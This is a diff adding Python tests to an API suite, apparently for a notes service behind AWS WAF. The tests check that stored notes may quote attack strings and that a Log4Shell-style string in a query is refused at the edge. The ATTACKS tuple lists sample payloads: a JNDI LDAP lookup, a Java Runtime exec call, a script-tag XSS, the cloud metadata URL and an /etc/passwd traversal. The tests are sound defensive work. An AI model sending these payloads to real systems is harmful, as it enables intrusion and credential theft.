@@ -396,3 +396,40 @@ def test_no_id_is_a_fault_of_ours(me: SignedIn, item_id: str) -> None:
     answer = me.send("GET", f"/v1/items/{quote(item_id.encode('utf-8', 'replace'), safe='')}")
 
     assert answer.status_code in (400, 403, 404)
+
+
+# AWS's own examples of what its managed rules for bodies look for.
+ATTACKS = (
+    "${jndi:ldap://example.com/}",
+    "(java.lang.Runtime).getRuntime().exec('whoami')",
+    "<script>alert('hello')</script>",
+    "http://169.254.169.254/latest/meta-data/",
+    "../../etc/passwd",
+)
+
+
+def test_a_note_may_quote_an_attack(me: SignedIn) -> None:
+    attacks = {"title": "What to look for", "notes": "\n".join(ATTACKS)}
+
+    made = me.create(attacks, str(uuid.uuid4()))
+
+    assert made.status_code == 201
+    assert made.json()["notes"] == "\n".join(ATTACKS)
+
+
+def test_a_note_may_be_longer_than_what_aws_takes_for_usual(me: SignedIn) -> None:
+    long = {"title": "Long", "notes": "€" * 4000}
+
+    assert me.create(long, str(uuid.uuid4())).status_code == 201
+
+
+def test_an_attack_elsewhere_is_refused_at_the_edge_in_words_that_a_program_reads(
+    me: SignedIn,
+) -> None:
+    answer = me.send("GET", f"/v1/items?cursor={quote(ATTACKS[0])}")
+
+    assert answer.status_code == 403
+    assert answer.headers["content-type"] == "application/json"
+    assert answer.headers["x-amz-cf-id"]
+    contract.schema("refusal")(answer.json())
+    assert "x-served-by" not in answer.headers
